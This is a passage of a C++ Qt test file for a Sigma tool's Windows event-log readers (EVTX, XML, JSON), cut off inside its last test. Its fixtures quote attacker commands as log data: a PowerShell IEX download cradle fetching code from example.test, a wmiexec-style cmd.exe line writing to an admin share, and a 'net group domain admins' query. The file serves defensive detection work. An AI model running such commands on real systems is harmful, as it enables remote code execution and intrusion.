// The event readers: format detection, Sigma field naming, the same events in five renderings,
// damaged and hostile input, origins, limits, progress and cancellation, the reference corpus.
#include "eventtestutil.h"
#include "testsupport.h"

#include "events/eventstream.h"
#include "events/evtxreader.h"
#include "events/normalize.h"
#include "events/reader.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QProcess>
#include <QRandomGenerator>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <array>
#include <map>

using namespace sigma;
using namespace eventtest;

namespace {

std::string path(const QString& relative)
{
    return sigmatest::dataPath(relative).toStdString();
}

/// "0x" and 1 to 16 hex digits.
bool isHex(const std::string& v)
{
    return v.size() > 2 && v.size() <= 18 && v.compare(0, 2, "0x") == 0 &&
           v.find_first_not_of("0123456789abcdefABCDEF", 2) == std::string::npos;
}

std::string writeTemp(QTemporaryDir& dir, const QString& name, const QByteArray& bytes)
{
    const QString p = dir.filePath(name);
    QFile f(p);
    if (!f.open(QIODevice::WriteOnly) || f.write(bytes) != bytes.size())
        qFatal("cannot write %s", qPrintable(p));
    return p.toStdString();
}

} // namespace

class TestEventReaders : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void detectFormat_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<int>("format");
        QTest::addRow("evtx") << QByteArray("ElfFile\0\0\0", 10) << int(EventFormat::Evtx);
        QTest::addRow("xml") << QByteArray("<?xml version=\"1.0\"?><Events/>") << int(EventFormat::EventXml);
        QTest::addRow("xml after BOM and blanks") << QByteArray("\xEF\xBB\xBF \n<Event>") << int(EventFormat::EventXml);
        QTest::addRow("json object") << QByteArray("{\"Event\":{}}") << int(EventFormat::Json);
        QTest::addRow("json array") << QByteArray("\n  [ {} ]") << int(EventFormat::Json);
        QTest::addRow("evtxexport banner")
            << QByteArray("evtxexport 20181227\n\n<Event xmlns=\"x\">") << int(EventFormat::EventXml);
        QTest::addRow("evtx_dump banner") << QByteArray("Record 1\n{\"Event\":{}}") << int(EventFormat::Json);
        QTest::addRow("empty") << QByteArray() << int(EventFormat::Unknown);
        QTest::addRow("zeros") << QByteArray(64, '\0') << int(EventFormat::Unknown);
        QTest::addRow("text") << QByteArray("hello world\n") << int(EventFormat::Unknown);
        QTest::addRow("truncated signature") << QByteArray("ElfFil") << int(EventFormat::Unknown);
    }
    void detectFormat()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(int, format);
        QCOMPARE(int(sigma::detectFormat(std::string_view(bytes.constData(), size_t(bytes.size())))), format);
    }

    void normalizeTime_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("out");
        QTest::addRow("windows 100ns") << "2022-01-24T20:11:11.361955600Z"
                                       << "2022-01-24T20:11:11.361955Z";
        QTest::addRow("python-evtx space") << "2022-01-24 20:11:11.361954"
                                           << "2022-01-24T20:11:11.361954Z";
        QTest::addRow("milliseconds") << "2020-10-29T08:23:18.073Z"
                                      << "2020-10-29T08:23:18.073000Z";
        QTest::addRow("no fraction") << "2021-01-30T09:13:13Z"
                                     << "2021-01-30T09:13:13.000000Z";
        QTest::addRow("utc offset") << "2021-01-30T09:13:13.5+00:00"
                                    << "2021-01-30T09:13:13.500000Z";
        QTest::addRow("other offset kept") << "2021-01-30T09:13:13+02:00"
                                           << "2021-01-30T09:13:13+02:00";
        QTest::addRow("not a time") << "yesterday"
                                    << "yesterday";
    }
    void normalizeTime()
    {
        QFETCH(QString, in);
        QFETCH(QString, out);
        QCOMPARE(QString::fromStdString(detail::normalizeTime(in.toStdString())), out);
        // The form without allocation (the EVTX decoder's): the same, or false where unchanged.
        std::array<char, 27> buffer;
        const std::string text = in.toStdString();
        const bool normalized = detail::normalizedTime(text, buffer);
        QCOMPARE(normalized ? QString::fromLatin1(buffer.data(), qsizetype(buffer.size())) : in, out);
        QCOMPARE(normalized, in != out);
    }

    // The same six events as Windows XML, python-evtx XML, namespace-less concatenated XML,
    // evtx_dump JSON Lines and an xmltodict JSON array: identical fields, in the same order.
    void renderingsNormaliseIdentically_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("format");
        QTest::addRow("python-evtx") << "events/mixed.python-evtx.xml" << int(EventFormat::EventXml);
        QTest::addRow("concatenated, no namespace") << "events/mixed.concat.xml" << int(EventFormat::EventXml);
        QTest::addRow("evtx_dump jsonl") << "events/mixed.evtx_dump.jsonl" << int(EventFormat::Json);
        QTest::addRow("xmltodict array") << "events/mixed.xmltodict.json" << int(EventFormat::Json);
    }
    void renderingsNormaliseIdentically()
    {
        QFETCH(QString, file);
        QFETCH(int, format);
        const ReadResult reference = readEventsFile(path(QStringLiteral("events/mixed.xml")));
        const ReadResult other = readEventsFile(path(file));
        QVERIFY2(reference.diagnostics.empty(), qPrintable(diagnosticsText(reference)));
        QVERIFY2(other.diagnostics.empty(), qPrintable(diagnosticsText(other)));
        QCOMPARE(int(other.format), format);
        QCOMPARE(other.events.size(), size_t(6));
        QCOMPARE(other.events.size(), reference.events.size());
        for (size_t i = 0; i < reference.events.size(); ++i) {
            QCOMPARE(fieldLines(other.events[i]), fieldLines(reference.events[i]));
            QCOMPARE(other.events[i].origin.index, i + 1);
            QCOMPARE(other.events[i].origin.recordId, reference.events[i].origin.recordId);
        }
    }

    void fieldNaming_data()
    {
        QTest::addColumn<int>("index"); // 1-based event in mixed.xml
        QTest::addColumn<QString>("field");
        QTest::addColumn<QStringList>("expected"); // every value of the field, in order
        auto row = [](const char* name, int i, const char* field, QStringList v) {
            QTest::addRow("%s", name) << i << QString::fromLatin1(field) << v;
        };
        row("Provider_Name", 1, "Provider_Name", L("Microsoft-Windows-Sysmon"));
        row("Provider_Guid", 1, "Provider_Guid", L("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"));
        row("EventID", 1, "EventID", L("1"));
        row("time normalised", 1, "TimeCreated_SystemTime", L("2024-03-05T10:15:42.992230Z"));
        row("Execution_ProcessID", 1, "Execution_ProcessID", L("1404"));
        row("Execution_ThreadID", 1, "Execution_ThreadID", L("1996"));
        row("Security_UserID", 1, "Security_UserID", L("S-1-5-18"));
        row("empty Correlation gives nothing", 1, "Correlation_ActivityID", L());
        row("Correlation_ActivityID", 5, "Correlation_ActivityID", L("{3F0C7A49-E4FD-0001-0094-0940FDE4D701}"));
        row("EventData by Name", 1, "Image", L("C:\\Windows\\System32\\cmd.exe"));
        row("trailing blank kept", 1, "CommandLine",
            L("C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\run.bat "));
        row("entities decoded", 1, "ParentCommandLine",
            L("cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__out 2^>^&1 & del run.bat"));
        row("UTF-8", 1, "Product", L(QStringLiteral("Microsoft\u00AE Windows\u00AE Operating System")));
        row("case-insensitive lookup", 1, "commandline",
            L("C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\run.bat "));
        row("UserData flattened", 2, "SubjectUserName", L("alice"));
        row("UserData wrapper not a field", 2, "LogFileCleared", L());
        row("RenderingInfo not a field", 3, "Message", L());
        row("RenderingInfo Level not duplicated", 3, "Level", L("0"));
        row("unnamed Data in order", 4, "Data",
            L("",
              "\tHostName=ConsoleHost\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell."
              "exe\n\tCommandLine=",
              "CommandInvocation(Out-Default): \"Out-Default\"\n"));
        row("Qualifiers", 4, "EventID_Qualifiers", L("0"));
        row("escaped markup in value", 5, "ScriptBlockText",
            L(QStringLiteral(
                "IEX(New-Object Net.WebClient).downloadString('https://example.test/a.png') # <caf\u00E9>")));
        row("empty Data kept", 5, "Path", L(""));
        row("Provider_EventSourceName", 6, "Provider_EventSourceName", L("Service Control Manager"));
        row("Qualifiers 16384", 6, "EventID_Qualifiers", L("16384"));
        row("short fraction padded", 6, "TimeCreated_SystemTime", L("2024-03-05T10:19:00.500000Z"));
    }
    void fieldNaming()
    {
        QFETCH(int, index);
        QFETCH(QString, field);
        QFETCH(QStringList, expected);
        const ReadResult r = readEventsFile(path(QStringLiteral("events/mixed.xml")));
        QCOMPARE(r.events.size(), size_t(6));
        const Event& e = r.events[size_t(index - 1)];
        QCOMPARE(values(e, field.toStdString()), expected);
        const auto first = e.value(field.toStdString());
        QCOMPARE(first.has_value(), !expected.isEmpty());
    }

    void accessorsAndOrigin()
    {
        const ReadResult r = readEventsFile(path(QStringLiteral("events/mixed.xml")));
        QCOMPARE(r.events.size(), size_t(6));
        const Event& e = r.events[2];
        QCOMPARE(str(e.provider()), QStringLiteral("Microsoft-Windows-Security-Auditing"));
        QCOMPARE(str(e.eventId()), QStringLiteral("4688"));
        QCOMPARE(str(e.channel()), QStringLiteral("Security"));
        QCOMPARE(str(e.time()), QStringLiteral("2024-03-05T10:16:40.675756Z"));
        QCOMPARE(e.origin.index, size_t(3));
        QCOMPARE(e.origin.recordId, std::optional<std::uint64_t>(60348));
        QVERIFY(!e.origin.chunk);
        QCOMPARE(*e.origin.file, path(QStringLiteral("events/mixed.xml")));
        // One file name shared by every event of the file, not a copy per event.
        for (const auto& other : r.events)
            QCOMPARE(other.origin.file.get(), e.origin.file.get());
    }

    void originalXml()
    {
        ReadOptions keep;
        keep.keepOriginalXml = true;
        const ReadResult kept = readEventsFile(path(QStringLiteral("events/mixed.xml")), keep);
        QCOMPARE(kept.events.size(), size_t(6));
        const std::string xml = kept.events[2].xml();
        QVERIFY2(xml.find("<RenderingInfo") != std::string::npos, xml.c_str());
        QVERIFY(xml.find("net  group &quot;domain admins&quot; /domain") != std::string::npos ||
                xml.find("net  group \"domain admins\" /domain") != std::string::npos);
        // Without the original, xml() renders the fields, and that rendering reads back the same.
        const ReadResult plain = readEventsFile(path(QStringLiteral("events/mixed.xml")));
        QVERIFY(!plain.events[2].originalXml);
        for (const auto& e : plain.events) {
            const std::string rendered = e.xml();
            const ReadResult again = readEventsText(rendered, "rendered");
            QVERIFY2(again.diagnostics.empty(), qPrintable(diagnosticsText(again) + QString::fromStdString(rendered)));
            QCOMPARE(again.events.size(), size_t(1));
            QCOMPARE(fieldLines(again.events[0]), fieldLines(e));
        }
    }

    void loadOriginalXmlFromFile()
    {
        const ReadResult plain = readEventsFile(path(QStringLiteral("events/mixed.python-evtx.xml")));
        QCOMPARE(plain.events.size(), size_t(6));
        const std::string xml = loadOriginalXml(plain.events[2]);
        // python-evtx's own text, not a rendering: its quirks are still there.
        QVERIFY2(xml.find("RelatedActivityID=\"\"") != std::string::npos, xml.c_str());
        QVERIFY2(xml.find("<EventRecordID>60348</EventRecordID>") != std::string::npos, xml.c_str());
        // JSON has no XML: the rendering of the fields.
        const ReadResult json = readEventsFile(path(QStringLiteral("events/mixed.evtx_dump.jsonl")));
        QCOMPARE(loadOriginalXml(json.events[2]), json.events[2].xml());
    }

    void truncatedXml()
    {
        // mixed.xml cut in the middle of its third event: two events and a warning at that line.
        QByteArray text = sigmatest::readFile(sigmatest::dataPath(QStringLiteral("events/mixed.xml")));
        text.truncate(text.indexOf("<Data Name=\"NewProcessName\">"));
        const ReadResult r = readEventsText(std::string_view(text.constData(), size_t(text.size())), "cut.xml");
        QCOMPARE(r.events.size(), size_t(2));
        QCOMPARE(r.skipped, size_t(1));
        QVERIFY(!r.failed());
        QCOMPARE(r.diagnostics.size(), size_t(1));
        QCOMPARE(r.diagnostics[0].file, std::string("cut.xml"));
        QVERIFY(r.diagnostics[0].span.begin.line > 60);
    }

    void flatJson()
    {
        const ReadResult r = readEventsFile(path(QStringLiteral("events/flat.jsonl")));
        QVERIFY2(r.diagnostics.empty(), qPrintable(diagnosticsText(r)));
        QCOMPARE(r.events.size(), size_t(2));
        const Event& e = r.events[0];
        QCOMPARE(str(e.provider()), QStringLiteral("Microsoft-Windows-Security-Auditing"));
        QCOMPARE(str(e.eventId()), QStringLiteral("5156"));
        QCOMPARE(str(e.time()), QStringLiteral("2024-03-05T10:20:01.073000Z"));
        QCOMPARE(values(e, "Computer"), QStringList{QStringLiteral("ws01.example.test")});
        QCOMPARE(values(e, "Provider_Guid"), QStringList{QStringLiteral("{54849625-5478-4994-a5ba-3e3b0328c30d}")});
        QCOMPARE(values(e, "Execution_ProcessID"), QStringList{QStringLiteral("4")});
        QCOMPARE(values(e, "DestPort"), QStringList{QStringLiteral("53")});
        QCOMPARE(values(e, "Tags"), (QStringList{QStringLiteral("a"), QStringLiteral("b")}));
        QCOMPARE(values(e, "Meta_Site"), QStringList{QStringLiteral("lab")});
        QCOMPARE(e.origin.recordId, std::optional<std::uint64_t>(90001));
        QCOMPARE(values(e, "SourceName"), QStringList()); // renamed, not duplicated
        // Without TimeCreated, @timestamp (UTC) gives the time; EventTime (local) does not.
        const Event& n = r.events[1];
        QCOMPARE(str(n.time()), QStringLiteral("2024-03-05T10:21:00.250000Z"));
        QCOMPARE(values(n, "Execution_ThreadID"), L("4888"));
        QCOMPARE(values(n, "ProcessID"), L("116")); // ambiguous with EventData ProcessId: kept as is
        QCOMPARE(values(n, "EventTime"), L("2024-03-05 05:21:00"));
    }

    void winlogbeatJson()
    {
        const ReadResult r = readEventsFile(path(QStringLiteral("events/winlogbeat.json")));
        QVERIFY2(r.diagnostics.empty(), qPrintable(diagnosticsText(r)));
        QCOMPARE(r.events.size(), size_t(1));
        const Event& w = r.events[0];
        const ReadResult x = readEventsFile(path(QStringLiteral("events/mixed.xml")));
        const Event& e = x.events[2]; // the same 4688
        for (const char* name :
             {"Provider_Name", "Provider_Guid", "EventID", "EventRecordID", "Channel", "Computer",
              "Execution_ProcessID", "Execution_ThreadID", "NewProcessName", "CommandLine", "ParentProcessName"})
            QCOMPARE(values(w, name), values(e, name));
        QCOMPARE(str(w.time()), QStringLiteral("2024-03-05T10:16:40.675000Z"));
    }

    void damagedInput_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QStringList>("recordIds");
        QTest::addColumn<int>("warningLine");
        QTest::addRow("xml") << "events/damaged.xml" << L("1", "3") << 3;
        QTest::addRow("jsonl") << "events/damaged.jsonl" << L("10", "12") << 2;
    }
    void damagedInput()
    {
        QFETCH(QString, file);
        QFETCH(QStringList, recordIds);
        QFETCH(int, warningLine);
        const ReadResult r = readEventsFile(path(file));
        QStringList ids;
        for (const auto& e : r.events)
            ids << str(*e.value("EventRecordID"));
        QCOMPARE(ids, recordIds);
        QCOMPARE(r.skipped, size_t(1));
        QVERIFY(!r.failed());
        QCOMPARE(r.diagnostics.size(), size_t(1));
        const Diagnostic& d = r.diagnostics[0];
        QCOMPARE(int(d.severity), int(Severity::Warning));
        QCOMPARE(d.file, path(file));
        QCOMPARE(d.span.begin.line, warningLine);
        // Positions in the file count the skipped event.
        QCOMPARE(r.events[1].origin.index, size_t(3));
    }

    void badFiles_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("code");
        QTest::addColumn<QString>("message");
        QTest::addRow("empty") << QByteArray() << "unknown-format"
                               << "empty";
        QTest::addRow("zero-filled") << QByteArray(70000, '\0') << "unknown-format"
                                     << "not an event file";
        QByteArray random(70000, '\0');
        QRandomGenerator gen(42);
        for (auto& c : random)
            c = char(gen.bounded(256));
        random[0] = 'x';
        QTest::addRow("random bytes") << random << "unknown-format"
                                      << "not an event file";
        QByteArray header("ElfFile\0", 8);
        header.append(QByteArray(4088, '\0'));
        QTest::addRow("evtx header only, zeros") << header << "evtx-open"
                                                 << "";
        QByteArray junk("ElfFile\0", 8);
        junk.append(random.left(20000));
        QTest::addRow("evtx signature, random rest") << junk << "evtx-open"
                                                     << "";
        QTest::addRow("broken xml") << QByteArray("<Events><Event><System>") << "xml-syntax"
                                    << "not well-formed XML";
        QTest::addRow("xml without events") << QByteArray("<html><body/></html>") << "xml-no-events"
                                            << "no <Event>";
        QTest::addRow("broken json array") << QByteArray("[\n{\"a\": 1},\n{\"b\": ]") << "json-syntax"
                                           << "not valid JSON";
    }
    void badFiles()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, code);
        QFETCH(QString, message);
        QTemporaryDir dir;
        const std::string file = writeTemp(dir, QStringLiteral("input.bin"), bytes);
        const ReadResult r = readEventsFile(file);
        QVERIFY2(r.failed(), qPrintable(diagnosticsText(r)));
        QVERIFY(r.events.empty());
        const Diagnostic& d = *std::find_if(r.diagnostics.begin(), r.diagnostics.end(),
                                            [](const Diagnostic& x) { return x.severity == Severity::Error; });
        QCOMPARE(QString::fromStdString(d.code), code);
        QCOMPARE(d.file, file);
        QVERIFY2(QString::fromStdString(d.message).contains(message), d.message.c_str());
    }

    void missingFile()
    {
        const ReadResult r = readEventsFile("/nonexistent/dir/events.evtx");
        QVERIFY(r.failed());
        QCOMPARE(QString::fromStdString(r.diagnostics[0].code), QStringLiteral("file-open"));
        QVERIFY(QString::fromStdString(r.diagnostics[0].format())
                    .startsWith(QStringLiteral("/nonexistent/dir/events.evtx: error:")));
    }

    void limitAndCancel()
    {
        // 2000 events as JSON Lines.
        std::string text;
        for (int i = 1; i <= 2000; ++i)
            text += "{\"Event\":{\"System\":{\"EventID\":1,\"EventRecordID\":" + std::to_string(i) + "}}}\n";
        ReadOptions limited;
        limited.limit = 5;
        const ReadResult five = readEventsText(text, "many.jsonl", limited);
        QCOMPARE(five.events.size(), size_t(5));
        QVERIFY(!five.cancelled);

        std::uint64_t lastDone = 0, lastTotal = 0;
        int calls = 0;
        ReadOptions cancelling;
        bool monotonic = true;
        cancelling.progress = [&](std::uint64_t done, std::uint64_t total) -> bool {
            monotonic = monotonic && done >= lastDone;
            lastDone = done;
            lastTotal = total;
            return ++calls < 3;
        };
        const ReadResult part = readEventsText(text, "many.jsonl", cancelling);
        QVERIFY(part.cancelled);
        QVERIFY(monotonic);
        QCOMPARE(calls, 3);
        QCOMPARE(lastTotal, std::uint64_t(text.size()));
        QVERIFY(part.events.size() > 0 && part.events.size() < 2000);
        const ReadResult all = readEventsText(text, "many.jsonl");
        QCOMPARE(all.events.size(), size_t(2000));
        QCOMPARE(all.events.back().origin.recordId, std::optional<std::uint64_t>(2000));
    }

    void streamingBatches_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addColumn<int>("batchSize");
        QTest::addRow("json, 1") << QStringLiteral("json") << 1;
        QTest::addRow("json, 64") << QStringLiteral("json") << 64;
        QTest::addRow("xml, 5") << QStringLiteral("xml") << 5;
        QTest::addRow("xml, 5000") << QStringLiteral("xml") << 5000;
    }
    void streamingBatches()
    {
        // ReadOptions::onBatch: the events of a whole read, in order, in batches of batchSize.
        QFETCH(QString, format);
        QFETCH(int, batchSize);
        std::string text = format == QLatin1String("xml") ? "<Events>\n" : "";
        for (int i = 1; i <= 700; ++i)
            text += format == QLatin1String("xml")
                        ? "<Event><System><EventID>1</EventID><EventRecordID>" + std::to_string(i) +
                              "</EventRecordID></System></Event>\n"
                        : "{\"Event\":{\"System\":{\"EventID\":1,\"EventRecordID\":" + std::to_string(i) + "}}}\n";
        if (format == QLatin1String("xml"))
            text += "</Events>\n";
        std::vector<std::uint64_t> ids;
        std::size_t batches = 0, largest = 0;
        ReadOptions options;
        options.batchSize = std::size_t(batchSize);
        options.onBatch = [&](std::vector<Event>& batch) {
            ++batches;
            largest = std::max(largest, batch.size());
            for (const auto& e : batch) {
                if (e.origin.index != ids.size() + 1)
                    return false;
                ids.push_back(e.origin.recordId.value_or(0));
            }
            return true;
        };
        const ReadResult r = readEventsText(text, "stream", options);
        QVERIFY(!r.cancelled);
        QVERIFY(!r.failed());
        QVERIFY(r.events.empty());
        QCOMPARE(r.count(), std::size_t(700));
        QCOMPARE(ids.size(), std::size_t(700));
        for (std::size_t i = 0; i < ids.size(); ++i)
            QCOMPARE(ids[i], std::uint64_t(i + 1));
        QCOMPARE(largest, std::min<std::size_t>(std::size_t(batchSize), 700));
        QCOMPARE(batches, (700 + std::size_t(batchSize) - 1) / std::size_t(batchSize));
    }

    void streamEventsAcrossFiles_data()
    {
        QTest::addColumn<unsigned>("threads");
        QTest::addColumn<int>("batchSize");
        QTest::addColumn<int>("smallFileBytes");
        QTest::addRow("1 thread") << 1u << 100 << (1 << 20);
        QTest::addRow("3 threads, small files read together") << 3u << 64 << (1 << 20);
        QTest::addRow("3 threads, every file streamed") << 3u << 7 << 0;
        QTest::addRow("2 threads, one batch") << 2u << 100000 << (1 << 20);
    }
    void streamEventsAcrossFiles()
    {
        // streamEvents: the events of many files in file order and record order, in batches of
        // batchSize that may span files, each file reported once, in order, after its events.
        QFETCH(unsigned, threads);
        QFETCH(int, batchSize);
        QFETCH(int, smallFileBytes);
        QTemporaryDir dir;
        std::vector<std::string> files;
        std::uint64_t next = 1;
        for (int f = 0; f < 9; ++f) {
            std::string text;
            const int count = f == 4 ? 0 : 50 + 37 * f; // the fifth file holds no event
            for (int i = 0; i < count; ++i)
                text += "{\"Event\":{\"System\":{\"EventID\":1,\"EventRecordID\":" + std::to_string(next++) + "}}}\n";
            if (f == 4)
                text = "not json\n";
            files.push_back(writeTemp(dir, QStringLiteral("f%1.jsonl").arg(f), QByteArray::fromStdString(text)));
        }
        std::vector<std::uint64_t> ids;
        std::vector<std::string> reported;
        std::size_t largest = 0, batches = 0;
        bool afterItsEvents = true;
        EventStreamOptions options;
        options.threads = threads;
        options.batchSize = std::size_t(batchSize);
        options.smallFileBytes = std::uintmax_t(smallFileBytes);
        std::size_t eventsBeforeReport = 0;
        const EventStreamTotals totals = streamEvents(
            files, options,
            [&](std::vector<Event>& batch) {
                ++batches;
                largest = std::max(largest, batch.size());
                for (const auto& e : batch)
                    ids.push_back(e.origin.recordId.value_or(0));
                return true;
            },
            [&](const ReadResult& r, const std::string& path) {
                reported.push_back(path);
                eventsBeforeReport += r.count();
                // The events of a reported file may still wait in the pending batch, never before.
                afterItsEvents = afterItsEvents && ids.size() <= eventsBeforeReport;
            });
        QVERIFY(afterItsEvents);
        QCOMPARE(reported, files);
        QCOMPARE(totals.files, files.size());
        QCOMPARE(totals.failedFiles, std::size_t(1));
        QVERIFY(!totals.stopped);
        QCOMPARE(totals.events, std::size_t(next - 1));
        QCOMPARE(ids.size(), std::size_t(next - 1));
        for (std::size_t i = 0; i < ids.size(); ++i)
            QCOMPARE(ids[i], std::uint64_t(i + 1));
        QCOMPARE(largest, std::min<std::size_t>(std::size_t(batchSize), ids.size()));
        QCOMPARE(batches, (ids.size() + std::size_t(batchSize) - 1) / std::size_t(batchSize));

        // The callee stops the stream.
        std::size_t seen = 0;
        const EventStreamTotals stopped = streamEvents(files, options, [&](std::vector<Event>& batch) {
            seen += batch.size();
            return false;
        });
        QVERIFY(stopped.stopped);
        QCOMPARE(seen, std::min<std::size_t>(std::size_t(batchSize), ids.size()));
    }

    // --- the reference corpus (skipped in a clone without ../shared) -------------------------------

    void corpusEvtxCounts()
    {
        SIGMA_REQUIRE_SHARED("corpus/events/EVTX-to-MITRE-Attack");
        // Every file must decode to the record count that evtxexport (libevtx-utils, the same libevtx
        // version as ours) reports. With libevtx 20181227 (Debian 12) that is 5660 records over the
        // 261 files, 7 of which it cannot read at all; newer libevtx (Debian 13) reads more. Records
        // we cannot read must be reported with a warning naming the chunk and record.
        const QString evtxexport = QStandardPaths::findExecutable(QStringLiteral("evtxexport"));
        if (evtxexport.isEmpty())
            QSKIP("evtxexport (libevtx-utils) is not installed: nothing to compare the record counts with");
        std::size_t files = 0, events = 0, reference = 0, more = 0;
        QDirIterator it(sharedPathValue, {QStringLiteral("*.evtx")}, QDir::Files, QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = it.next();
            const std::string file = path.toStdString();
            const ReadResult r = readEventsFile(file);
            ++files;
            events += r.events.size();
            QVERIFY2(!r.failed(), qPrintable(diagnosticsText(r)));
            QCOMPARE(int(r.format), int(EventFormat::Evtx));

            QProcess p;
            p.start(evtxexport, {path});
            QVERIFY(p.waitForFinished(60000));
            const std::size_t expected = std::size_t(p.readAllStandardOutput().count("\nEvent number"));
            reference += expected;
            // Our decoder reads every record libevtx reads, and more only where libevtx fails on
            // some (tst_evtxdiff compares the records themselves).
            ReadResult libevtx;
            detail::readEvtxFileWith(detail::EvtxDecoder::Libevtx, file, file, {}, libevtx);
            const bool libevtxComplete = libevtx.skipped == 0 && !libevtx.failed();
            QVERIFY2(libevtxComplete ? r.events.size() == expected : r.events.size() >= expected,
                     qPrintable(
                         QStringLiteral("%1: %2 events, evtxexport %3").arg(path).arg(r.events.size()).arg(expected)));
            more += r.events.size() - expected;
            if (r.skipped) {
                const Diagnostic& d = r.diagnostics.back();
                QCOMPARE(d.file, file);
                QVERIFY2(d.message.find("chunk 0, record ") == 0, d.message.c_str());
            }
            for (const auto& e : r.events) {
                QVERIFY(e.origin.chunk.has_value());
                QVERIFY(e.origin.recordId.has_value());
                QCOMPARE(std::to_string(*e.origin.recordId), std::string(*e.value("EventRecordID")));
            }
        }
        QCOMPARE(files, size_t(261));
        QCOMPARE(events, reference + more);
        qInfo("%zu records in %zu files: evtxexport's %zu and %zu it cannot read", events, files, reference, more);
    }

    void corpusEvtxMatchesPythonEvtxXml()
    {
        SIGMA_REQUIRE_SHARED("corpus/events/EVTX-to-MITRE-Attack");
        // The corpus has python-evtx XML beside three EVTX files: the same records must give the
        // same fields. python-evtx writes GUIDs in lower case, loses up to a few microseconds
        // of TimeCreated (float rounding) and zero-pads HexInt32/HexInt64 ("0x0000143a" where
        // Windows and our .evtx reader write "0x143a"), so those compare case-insensitively, to
        // the second, and as numbers.
        const QStringList stems{
            QStringLiteral("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded "
                           "(CME+Mimikatz)"),
            QStringLiteral(
                "EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL)"),
            QStringLiteral("TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via PowerShell")};
        for (const auto& stem : stems) {
            const QString base = sharedPathValue + QLatin1Char('/') + stem;
            const ReadResult evtx = readEventsFile(QString(base + QStringLiteral(".evtx")).toStdString());
            const ReadResult xml = readEventsFile(QString(base + QStringLiteral(".xml")).toStdString());
            QVERIFY2(xml.diagnostics.empty(), qPrintable(diagnosticsText(xml)));
            QCOMPARE(xml.events.size(), evtx.events.size());
            QVERIFY(!evtx.events.empty());
            for (size_t i = 0; i < evtx.events.size(); ++i) {
                const auto& a = evtx.events[i].fields;
                const auto& b = xml.events[i].fields;
                auto av = [&](size_t k) { return std::string(evtx.events[i].text(k)); };
                auto bv = [&](size_t k) { return std::string(xml.events[i].text(k)); };
                QCOMPARE(b.size(), a.size());
                for (size_t k = 0; k < a.size(); ++k) {
                    QCOMPARE(str(FieldNames::text(b[k].name)), str(FieldNames::text(a[k].name)));
                    if (FieldNames::text(a[k].name) == "TimeCreated_SystemTime")
                        QCOMPARE(QString::fromStdString(bv(k)).left(19), QString::fromStdString(av(k)).left(19));
                    else if (isHex(av(k)) && isHex(bv(k)))
                        QCOMPARE(std::stoull(bv(k), nullptr, 16), std::stoull(av(k), nullptr, 16));
                    else
                        QCOMPARE(QString::fromStdString(bv(k)).toLower(), QString::fromStdString(av(k)).toLower());
                }
            }
        }
    }

    void corpusEvtxProgressAndOriginal()
    {
        SIGMA_REQUIRE_SHARED("corpus/events/EVTX-to-MITRE-Attack");
        const std::string file = sharedPathValue.toStdString() +
                                 "/TA0002-Execution/T1569.002-Service execution/ID7000,7009,7045-Payload deployed via "
                                 "service - Tchopper.evtx";
        std::vector<std::pair<std::uint64_t, std::uint64_t>> calls;
        ReadOptions options;
        options.progress = [&](std::uint64_t done, std::uint64_t total) {
            calls.emplace_back(done, total);
            return true;
        };
        const ReadResult all = readEventsFile(file, options);
        QCOMPARE(all.events.size(), size_t(733));
        QVERIFY(calls.size() >= 3);
        QCOMPARE(calls.back(), std::make_pair(std::uint64_t(733), std::uint64_t(733)));
        // Cancelled after the second report: the events so far, flagged.
        int n = 0;
        options.progress = [&](std::uint64_t, std::uint64_t) { return ++n < 2; };
        const ReadResult part = readEventsFile(file, options);
        QVERIFY(part.cancelled);
        QCOMPARE(part.events.size(), size_t(256));
        // The original XML of record 500, read again from the file, is libevtx's rendering of it.
        const Event& e = all.events[499];
        const std::string xml = loadOriginalXml(e);
        QVERIFY2(xml.find("<EventRecordID>" + std::string(*e.value("EventRecordID")) + "</EventRecordID>") !=
                     std::string::npos,
                 xml.c_str());
        QVERIFY(e.origin.chunk.has_value() && *e.origin.chunk > 0);
    }

    void corpusTruncatedEvtx_data()
    {
        QTest::addColumn<int>("bytes");
        QTest::addColumn<bool>("error");
        QTest::addColumn<int>("events");
        QTest::addColumn<int>("skipped");
        // The file has one chunk of 46 records. Complete records of a truncated chunk are read.
        QTest::addRow("inside the file header") << 2000 << true << 0 << 0;
        QTest::addRow("header only") << 4096 << true << 0 << 0;
        QTest::addRow("inside the chunk header") << 4200 << false << 0 << 46;
        QTest::addRow("inside the records") << 30000 << false << 14 << 32;
        QTest::addRow("last bytes missing") << 69000 << false << 46 << 0;
    }
    void corpusTruncatedEvtx()
    {
        QFETCH(int, bytes);
        QFETCH(bool, error);
        QFETCH(int, events);
        QFETCH(int, skipped);
        SIGMA_REQUIRE_SHARED("corpus/events/EVTX-to-MITRE-Attack");
        const QByteArray whole = sigmatest::readFile(
            sharedPathValue +
            QStringLiteral(
                "/EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx"));
        QCOMPARE(whole.size(), 69632);
        QTemporaryDir dir;
        const std::string file = writeTemp(dir, QStringLiteral("truncated.evtx"), whole.left(bytes));
        const ReadResult r = readEventsFile(file);
        QCOMPARE(r.failed(), error);
        QCOMPARE(int(r.events.size()), events);
        QCOMPARE(int(r.skipped), skipped);
